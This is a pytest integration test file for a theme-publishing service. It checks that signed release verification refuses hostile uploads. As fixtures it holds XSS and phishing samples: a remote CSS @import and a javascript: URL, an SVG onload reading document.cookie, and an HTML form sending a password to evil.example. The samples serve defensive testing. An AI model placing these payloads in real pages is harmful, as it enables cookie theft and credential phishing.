"""The service verifies a release before it exists: the attacks of issue 7 against the real stack fail safely.

Real app, PostgreSQL, Redis and SeaweedFS: uploads go through the grants the API hands out (a keyless author)
or straight into the bucket with its key (what a key-mode publisher, or an attacker with the key, can do).
"""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from backend.api.app import create_app
from backend.signing import PublicKey, verify_envelope
from tests.backend.conftest import storage_settings
from tests.backend.helpers import CSS_TYPE, Actor, free_port, sha, stage_release, version_body
from tests.backend.seaweed import SeaweedS3

pytestmark = pytest.mark.anyio

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40
WOFF2 = b"wOF2" + b"\x00" * 40
SVG = "image/svg+xml"
SAFE_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>'
GOOD_CSS = b":root{--brand:#0af}\n.logo{background:url(assets/logo.svg)}\n"


async def new_theme(api: httpx.AsyncClient, author: Actor, name: str = "Verified") -> str:
    r = await api.post("/v1/themes", json={"name": name}, headers=author.headers)
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


async def grants(
    api: httpx.AsyncClient, author: Actor, theme: str, version: str, files: dict[str, tuple[bytes, str]]
) -> httpx.Response:
    body = {
        "version": version,
        "files": [
            {"path": path, "content_type": kind, "size": len(data), "sha256": sha(data)}
            for path, (data, kind) in files.items()
        ],
    }
    return await api.post(f"/v1/themes/{theme}/grants/release", json=body, headers=author.headers)


async def upload(
    api: httpx.AsyncClient, author: Actor, theme: str, version: str, files: dict[str, tuple[bytes, str]]
) -> None:
    """Upload through grants exactly as granted (the keyless publisher's path)."""
    r = await grants(api, author, theme, version, files)
    assert r.status_code == 200, r.text
    by_key = {g["key"]: g for g in r.json()["grants"]}
    for path, (data, _kind) in files.items():
        key = (
            f"themes-previews/{theme}/{version}.png"
            if path == "preview.png"
            else f"themes-published/{theme}/{version}/{path}"
        )
        headers = {k: v for k, v in by_key[key]["headers"].items() if k.lower() != "content-length"}
        put = httpx.put(by_key[key]["url"], content=data, headers=headers, timeout=10)
        assert put.status_code == 200, put.text


async def register(
    api: httpx.AsyncClient, author: Actor, theme: str, version: str, css: bytes, **extra: Any
) -> httpx.Response:
    body = version_body(version, css) | extra
    return await api.post(f"/v1/themes/{theme}/versions", json=body, headers=author.headers)


def public(seaweed: SeaweedS3, key: str) -> httpx.Response:
    return httpx.get(f"{seaweed.endpoint}/{seaweed.bucket}/{key}", timeout=10)


async def registered(api: httpx.AsyncClient, author: Actor, theme: str) -> list[str]:
    listed = (await api.get(f"/v1/themes/{theme}/versions", headers=author.headers)).json()
    return [v["version"] for v in listed]


@pytest.fixture
async def small_api(
    seaweed: SeaweedS3, database_url: str, redis_url: str, redis_prefix: str
) -> AsyncIterator[httpx.AsyncClient]:
    """The app with a 4 KiB per-version cap."""
    settings = storage_settings(seaweed, database_url, redis_url, redis_prefix).model_copy(
        update={"release_max_bytes": 4096}
    )
    app = create_app(settings)
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://api.test") as http,
    ):
        yield http


async def test_made_up_digest_with_nothing_uploaded_registers_nothing(
    api: httpx.AsyncClient, actors: dict[str, Actor]
) -> None:
    author = actors["author"]
    theme = await new_theme(api, author)
    r = await register(api, author, theme, "1.0.0", b"never uploaded")
    assert (r.status_code, r.json()["error"]) == (422, "verification_failed")
    assert [f["rule"] for f in r.json()["findings"]] == ["release/missing-object"]
    assert await registered(api, author, theme) == []
    record = (await api.get(f"/v1/themes/{theme}", headers=author.headers)).json()
    assert (record["version"], record["css_url"], record["published"]) == (None, None, False)


@pytest.mark.parametrize(
    ("hostile", "rule"),
    [
        (b"@import url(https://evil.example/a.css);\n:root{--a:1}\n", "safety/remote-import"),
        (b":root{--a:1}\n.x{background:url('javascript:alert(1)')}\n", "safety/script-url"),
    ],
)
async def test_hostile_stylesheet_is_refused_and_latest_untouched(
    api: httpx.AsyncClient, actors: dict[str, Actor], seaweed: SeaweedS3, hostile: bytes, rule: str
) -> None:
    author = actors["author"]
    theme = await new_theme(api, author)
    good = b":root{--a:1}\n"
    await upload(api, author, theme, "1.0.0", {"theme.css": (good, CSS_TYPE)})
    assert (await register(api, author, theme, "1.0.0", good)).status_code == 201
    latest = f"themes-published/{theme}/latest/theme.css"
    assert public(seaweed, latest).content == good

    await upload(api, author, theme, "1.1.0", {"theme.css": (hostile, CSS_TYPE)})
    r = await register(api, author, theme, "1.1.0", hostile)
    assert (r.status_code, r.json()["error"]) == (422, "verification_failed")
    [finding] = r.json()["findings"]
    assert (finding["rule"], finding["key"]) == (rule, f"themes-published/{theme}/1.1.0/theme.css")
    assert finding["line"] in (1, 2)
    assert await registered(api, author, theme) == ["1.0.0"]
    assert public(seaweed, latest).content == good
    assert (await api.get(f"/v1/themes/{theme}")).json()["version"] == "1.0.0"
    # The refused bytes are gone from the public prefix, so the same version can be uploaded again, fixed.
    assert public(seaweed, f"themes-published/{theme}/1.1.0/theme.css").status_code == 404
    fixed = b":root{--a:2}\n"
    await upload(api, author, theme, "1.1.0", {"theme.css": (fixed, CSS_TYPE)})
    assert (await register(api, author, theme, "1.1.0", fixed)).status_code == 201
    assert public(seaweed, latest).content == fixed


async def test_html_asset_grant_refused_and_planted_html_fails_verification(
    api: httpx.AsyncClient, actors: dict[str, Actor], seaweed: SeaweedS3, s3_admin: Any
) -> None:
    author = actors["author"]
    theme = await new_theme(api, author)
    page = b"<html><body><form action=https://evil.example>password</form></body></html>"
    r = await grants(api, author, theme, "1.0.0", {"assets/login.html": (page, "text/html")})
    assert (r.status_code, r.json()["error"]) == (422, "asset_type_not_allowed")
    r = await grants(api, author, theme, "1.0.0", {"assets/login.png": (page, "text/html")})
    assert (r.status_code, r.json()["error"]) == (422, "bad_content_type")

    # Someone with the bucket key plants the page (and a lying PNG) beside a clean theme.css.
    stage_release(
        s3_admin,
        seaweed.bucket,
        theme,
        "1.0.0",
        b":root{--a:1}",
        {"assets/login.html": (page, "text/html"), "assets/logo.png": (page, "image/png")},
    )
    r = await register(api, author, theme, "1.0.0", b":root{--a:1}")
    assert (r.status_code, r.json()["error"]) == (422, "verification_failed")
    rules = {(f["rule"], f["key"].rsplit("/", 1)[-1]) for f in r.json()["findings"]}
    assert rules == {("release/asset-type", "login.html"), ("release/content-mismatch", "logo.png")}
    assert await registered(api, author, theme) == []
    assert public(seaweed, f"themes-published/{theme}/1.0.0/assets/login.html").status_code == 404


async def test_svg_with_script_refused_safe_svg_served_as_attachment(
    api: httpx.AsyncClient, actors: dict[str, Actor], seaweed: SeaweedS3
) -> None:
    author = actors["author"]
    theme = await new_theme(api, author)
    evil = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect/></svg>'
    await upload(
        api,
        author,
        theme,
        "1.0.0",
        {"assets/logo.svg": (evil, "image/svg+xml"), "theme.css": (GOOD_CSS, CSS_TYPE)},
    )
    r = await register(api, author, theme, "1.0.0", GOOD_CSS)
    assert (r.status_code, r.json()["error"]) == (422, "verification_failed")
    assert [f["rule"] for f in r.json()["findings"]] == ["release/unsafe-svg"]
    assert "onload" in r.json()["findings"][0]["message"]
    assert await registered(api, author, theme) == []

    # The refused SVG was removed: the author uploads a clean one under the same version.
    await upload(api, author, theme, "1.0.0", {"assets/logo.svg": (SAFE_SVG, "image/svg+xml")})
    assert (await register(api, author, theme, "1.0.0", GOOD_CSS)).status_code == 201
    served = public(seaweed, f"themes-published/{theme}/1.0.0/assets/logo.svg")
    assert served.status_code == 200
    assert served.headers["content-type"] == "image/svg+xml"
    # SeaweedFS keeps the signed Content-Disposition and serves it: a navigation downloads, never renders.
    assert served.headers["content-disposition"] == "attachment"


async def test_storage_down_registers_nothing_and_retry_succeeds(
    api: httpx.AsyncClient,
    actors: dict[str, Actor],
    seaweed: SeaweedS3,
    s3_admin: Any,
    database_url: str,
    redis_url: str,
    redis_prefix: str,
) -> None:
    author = actors["author"]
    theme = await new_theme(api, author)
    stage_release(s3_admin, seaweed.bucket, theme, "1.0.0", b":root{--a:1}")
    down = storage_settings(seaweed, database_url, redis_url, redis_prefix).model_copy(
        update={"spaces_endpoint": f"http://127.0.0.1:{free_port()}"}
    )
    app = create_app(down)
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://api.test") as http,
    ):
        r = await register(http, author, theme, "1.0.0", b":root{--a:1}")
    assert (r.status_code, r.json()["error"]) == (503, "storage_unavailable")
    assert await registered(api, author, theme) == []
    r = await register(api, author, theme, "1.0.0", b":root{--a:1}")
    assert r.status_code == 201, r.text


async def test_per_version_size_cap(
    small_api: httpx.AsyncClient, actors: dict[str, Actor], seaweed: SeaweedS3, s3_admin: Any
) -> None:
    author = actors["author"]
    theme = await new_theme(small_api, author)
    big = PNG + b"\x00" * 3000
    files = {"assets/a.png": (big, "image/png"), "theme.css": (b":root{--a:1}" + b" " * 2000, CSS_TYPE)}
    r = await grants(small_api, author, theme, "1.0.0", files)
    assert (r.status_code, r.json()["error"]) == (422, "release_too_large")
    stage_release(
        s3_admin,
        seaweed.bucket,
        theme,
        "1.0.0",
        files["theme.css"][0],
        {"assets/a.png": files["assets/a.png"]},
    )
    r = await register(small_api, author, theme, "1.0.0", files["theme.css"][0])
    assert (r.status_code, r.json()["error"]) == (422, "verification_failed")
    assert [f["rule"] for f in r.json()["findings"]] == ["release/too-large"]
    assert await registered(small_api, author, theme) == []


async def test_unpublished_theme_stays_unpublished(
    api: httpx.AsyncClient, actors: dict[str, Actor], seaweed: SeaweedS3, s3_admin: Any
) -> None:
    author = actors["author"]
    theme = await new_theme(api, author)
    for version in ("1.0.0", "1.1.0", "1.2.0"):
        stage_release(s3_admin, seaweed.bucket, theme, version, f":root{{--v:'{version}'}}".encode())

    async def state() -> bool:
        return bool((await api.get(f"/v1/themes/{theme}", headers=author.headers)).json()["published"])

    assert (await register(api, author, theme, "1.0.0", b":root{--v:'1.0.0'}")).status_code == 201
    assert await state() is True
    r = await api.patch(f"/v1/themes/{theme}", json={"published": False}, headers=author.headers)
    assert r.status_code == 200
    assert (await register(api, author, theme, "1.1.0", b":root{--v:'1.1.0'}")).status_code == 201
    assert await state() is False
    assert (await api.get(f"/v1/themes/{theme}")).status_code == 404  # hidden from everyone else
    assert (
        await api.post(f"/v1/themes/{theme}/versions/1.1.0/yank", headers=author.headers)
    ).status_code == 200
    assert await state() is False
    assert (
        await api.patch(f"/v1/themes/{theme}", json={"published": True}, headers=author.headers)
    ).status_code == 200
    assert await state() is True
    assert (await register(api, author, theme, "1.2.0", b":root{--v:'1.2.0'}")).status_code == 201
    assert await state() is True


async def test_review_required_pins_an_approved_draft(
    api: httpx.AsyncClient, actors: dict[str, Actor], seaweed: SeaweedS3, s3_admin: Any
) -> None:
    author, reviewer = actors["author"], actors["reviewer"]
    theme = await new_theme(api, author)
    other_theme = await new_theme(api, author, "Other")
    css = b":root{--reviewed:1}\n"
    r = await api.patch(f"/v1/themes/{theme}", json={"review_required": True}, headers=author.headers)
    assert (r.status_code, r.json()["review_required"]) == (200, True)
    stage_release(s3_admin, seaweed.bucket, theme, "1.0.0", css)

    async def draft(of: str, data: bytes, *, approve: bool) -> str:
        d = await api.post(
            f"/v1/themes/{of}/drafts", json={"sha256": sha(data), "size": len(data)}, headers=author.headers
        )
        draft_id = str(d.json()["id"])
        if approve:
            assert (
                await api.post(f"/v1/drafts/{draft_id}/submit", headers=author.headers)
            ).status_code == 200
            review = await api.post(
                f"/v1/drafts/{draft_id}/review", json={"decision": "approve"}, headers=reviewer.headers
            )
            assert review.status_code == 200
        return draft_id

    async def refused(**extra: Any) -> tuple[int, str]:
        r = await register(api, author, theme, "1.0.0", css, **extra)
        return r.status_code, r.json()["error"]

    assert await refused() == (409, "review_required")
    assert await refused(draft_id=await draft(theme, css, approve=False)) == (409, "draft_not_approved")
    assert await refused(draft_id=await draft(theme, b":root{--other:1}", approve=True)) == (
        409,
        "draft_mismatch",
    )
    assert await refused(draft_id=await draft(other_theme, css, approve=True)) == (422, "draft_invalid")
    assert await registered(api, author, theme) == []
    approved = await draft(theme, css, approve=True)
    r = await register(api, author, theme, "1.0.0", css, draft_id=approved)
    assert r.status_code == 201, r.text
    assert r.json()["draft_id"] == approved
    envelope = public(seaweed, r.json()["manifest_key"]).json()
    payload = json.loads(base64.b64decode(envelope["payload"]))
    assert payload["review"]["draft_id"] == approved
    assert payload["review"]["reviewer_id"] == str(reviewer.user_id)
    assert payload["review"]["decided_at"].endswith("Z")


async def test_manifest_is_signed_and_lists_the_stored_bytes(
    api: httpx.AsyncClient, actors: dict[str, Actor], seaweed: SeaweedS3, s3_admin: Any
) -> None:
    author = actors["author"]
    theme = await new_theme(api, author)
    files = {
        "assets/logo.svg": (SAFE_SVG, "image/svg+xml"),
        "assets/fonts/brand.woff2": (WOFF2, "font/woff2"),
        "preview.png": (PNG, "image/png"),
        "theme.css": (GOOD_CSS, CSS_TYPE),
    }
    await upload(api, author, theme, "2.0.0", files)
    r = await register(api, author, theme, "2.0.0", GOOD_CSS, changes="signed")
    assert r.status_code == 201, r.text
    record = r.json()
    assert record["sri"] == "sha384-" + base64.b64encode(hashlib.sha384(GOOD_CSS).digest()).decode()

    stored = public(seaweed, record["manifest_key"])
    assert stored.status_code == 200
    assert stored.headers["content-type"] == "application/json"
    assert stored.headers["cache-control"] == "public, max-age=31536000, immutable"
    envelope = stored.json()
    assert envelope["payloadType"] == "application/vnd.themesystem.release-manifest+json"
    keys = (await api.get("/v1/keys")).json()["keys"]
    [active] = [k for k in keys if k["status"] == "active"]
    raw = base64.b64decode(active["public_key"])
    assert active["keyid"] == hashlib.sha256(raw).hexdigest()[:16]
    assert envelope["signatures"][0]["keyid"] == active["keyid"]
    payload_bytes = verify_envelope(envelope, [PublicKey(active["keyid"], raw, "active")])
    payload = json.loads(payload_bytes)
    assert payload_bytes == json.dumps(payload, sort_keys=True, separators=(",", ":")).encode()
    assert payload["schema"] == "themesystem.release-manifest/1"
    assert (payload["theme_id"], payload["version"]) == (theme, "2.0.0")
    assert payload["publisher"] == {"user_id": str(author.user_id), "name": payload["publisher"]["name"]}
    assert payload["review"] is None
    assert payload["lint"] == {"verdict": "pass", "errors": 0, "warnings": payload["lint"]["warnings"]}
    keys_listed = [o["key"] for o in payload["objects"]]
    assert keys_listed == sorted(keys_listed)
    assert keys_listed == sorted(
        [
            f"themes-published/{theme}/2.0.0/theme.css",
            f"themes-published/{theme}/2.0.0/assets/logo.svg",
            f"themes-published/{theme}/2.0.0/assets/fonts/brand.woff2",
            f"themes-previews/{theme}/2.0.0.png",
        ]
    )
    for obj in payload["objects"]:
        got = public(seaweed, obj["key"])
        assert (got.status_code, len(got.content), sha(got.content)) == (200, obj["size"], obj["sha256"])
        assert got.headers["content-type"] == obj["content_type"]

    # A tampered payload no longer verifies.
    forged = dict(envelope, payload=base64.b64encode(payload_bytes.replace(b"2.0.0", b"2.0.1")).decode())
    with pytest.raises(ValueError, match="no signature verifies"):
        verify_envelope(forged, [PublicKey(active["keyid"], raw, "active")])

    # A crash after commit lost the manifest and the alias: the same registration again finishes both, with
    # the very same manifest bytes.
    s3_admin.delete_object(Bucket=seaweed.bucket, Key=record["manifest_key"])
    s3_admin.delete_object(Bucket=seaweed.bucket, Key=f"themes-published/{theme}/latest/theme.css")
    again = await register(api, author, theme, "2.0.0", GOOD_CSS, changes="signed")
    assert (again.status_code, again.json()["latest_alias"]["action"]) == (200, "moved")
    assert public(seaweed, record["manifest_key"]).content == stored.content
    assert public(seaweed, f"themes-published/{theme}/latest/theme.css").content == GOOD_CSS


async def test_assets_the_store_vouches_for_are_not_read_again_yet_still_checked(
    api: httpx.AsyncClient, actors: dict[str, Actor], seaweed: SeaweedS3, s3_admin: Any
) -> None:
    """Uploads carry x-amz-checksum-sha256, which the store validates and keeps: verification trusts that
    digest for fonts and images (a HEAD and the first bytes) and reads them whole only when it cannot."""
    author = actors["author"]
    theme = await new_theme(api, author)
    page = b"<html><body>not a font</body></html>"
    # Through grants (checksummed): the store vouches for the bytes, the first bytes still give them away.
    await upload(
        api,
        author,
        theme,
        "1.0.0",
        {"theme.css": (b":root{--a:1}", CSS_TYPE), "assets/a.woff2": (page, "font/woff2")},
    )
    r = await register(api, author, theme, "1.0.0", b":root{--a:1}")
    assert (r.status_code, r.json()["error"]) == (422, "verification_failed")
    assert [f["rule"] for f in r.json()["findings"]] == ["release/content-mismatch"]

    # With the bucket key: bytes checksummed by the store, but sha256 metadata claiming other bytes. The
    # store's digest and the claim disagree, so the object is read whole, and the claim is refused.
    other = WOFF2 + b"other"
    stage_release(s3_admin, seaweed.bucket, theme, "1.0.1", b":root{--a:1}")
    s3_admin.put_object(
        Bucket=seaweed.bucket,
        Key=f"themes-published/{theme}/1.0.1/assets/b.woff2",
        Body=other,
        ChecksumSHA256=base64.b64encode(hashlib.sha256(other).digest()).decode(),
        ContentType="font/woff2",
        CacheControl="public, max-age=31536000, immutable",
        ContentDisposition="attachment",
        Metadata={"theme-id": theme, "version": "1.0.1", "sha256": sha(WOFF2)},
    )
    r = await register(api, author, theme, "1.0.1", b":root{--a:1}")
    assert (r.status_code, r.json()["error"]) == (422, "verification_failed")
    assert [f["rule"] for f in r.json()["findings"]] == ["release/metadata"]

    # A clean release through grants registers without reading the font back (only theme.css is read whole),
    # and its manifest lists the vouched bytes' digest and size.
    storage = api.app.state.services.storage  # type: ignore[attr-defined]
    read_whole: list[str] = []
    real_get = storage.get_object

    def recording_get(key: str, *, max_bytes: int) -> Any:
        read_whole.append(key.rsplit("/", 1)[-1])
        return real_get(key, max_bytes=max_bytes)

    storage.get_object = recording_get
    await upload(
        api,
        author,
        theme,
        "1.0.2",
        {"theme.css": (b":root{--a:2}", CSS_TYPE), "assets/c.woff2": (WOFF2, "font/woff2")},
    )
    r = await register(api, author, theme, "1.0.2", b":root{--a:2}")
    assert r.status_code == 201, r.text
    assert "theme.css" in read_whole
    assert "c.woff2" not in read_whole
    manifest = json.loads(public(seaweed, r.json()["manifest_key"]).content)
    objects = json.loads(base64.b64decode(manifest["payload"]))["objects"]
    font = next(o for o in objects if o["key"].endswith("c.woff2"))
    assert (font["size"], font["sha256"]) == (len(WOFF2), sha(WOFF2))


async def test_a_granted_file_left_unuploaded_blocks_registration_until_its_grant_ends(
    api: httpx.AsyncClient, actors: dict[str, Actor], seaweed: SeaweedS3
) -> None:
    """Otherwise a client registers a clean release, then uploads a file it holds a live grant for: the
    service would serve bytes under the release that it never verified (a hostile SVG here)."""
    author = actors["author"]
    theme = await new_theme(api, author)
    css = b":root{--a:1}"
    hostile = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    r = await grants(
        api, author, theme, "1.0.0", {"theme.css": (css, CSS_TYPE), "assets/late.svg": (hostile, SVG)}
    )
    assert r.status_code == 200, r.text
    by_path = {g["key"].rsplit("/", 1)[-1]: g for g in r.json()["grants"]}

    def put(name: str, data: bytes) -> int:
        grant = by_path[name]
        headers = {k: v for k, v in grant["headers"].items() if k.lower() != "content-length"}
        return httpx.put(grant["url"], content=data, headers=headers, timeout=10).status_code

    assert put("theme.css", css) == 200
    r = await register(api, author, theme, "1.0.0", css)
    assert (r.status_code, r.json()["error"]) == (409, "grants_outstanding"), r.text
    assert "assets/late.svg" in r.json()["message"]
    assert await registered(api, author, theme) == []

    # Uploaded after all, the file is verified like any other, and refused.
    assert put("late.svg", hostile) == 200
    r = await register(api, author, theme, "1.0.0", css)
    assert (r.status_code, r.json()["error"]) == (422, "verification_failed")
    assert [f["rule"] for f in r.json()["findings"]] == ["release/unsafe-svg"]
    assert public(seaweed, f"themes-published/{theme}/1.0.0/assets/late.svg").status_code == 404


async def test_grants_for_a_registered_version_are_refused_while_it_registers(
    api: httpx.AsyncClient, actors: dict[str, Actor]
) -> None:
    """Once registered, no grant adds a key to the release (the grant and the registration serialise)."""
    author = actors["author"]
    theme = await new_theme(api, author)
    css = b":root{--a:1}"
    await upload(api, author, theme, "1.0.0", {"theme.css": (css, CSS_TYPE)})
    assert (await register(api, author, theme, "1.0.0", css)).status_code == 201
    r = await grants(api, author, theme, "1.0.0", {"assets/x.png": (PNG, "image/png")})
    assert (r.status_code, r.json()["error"]) == (409, "version_exists")
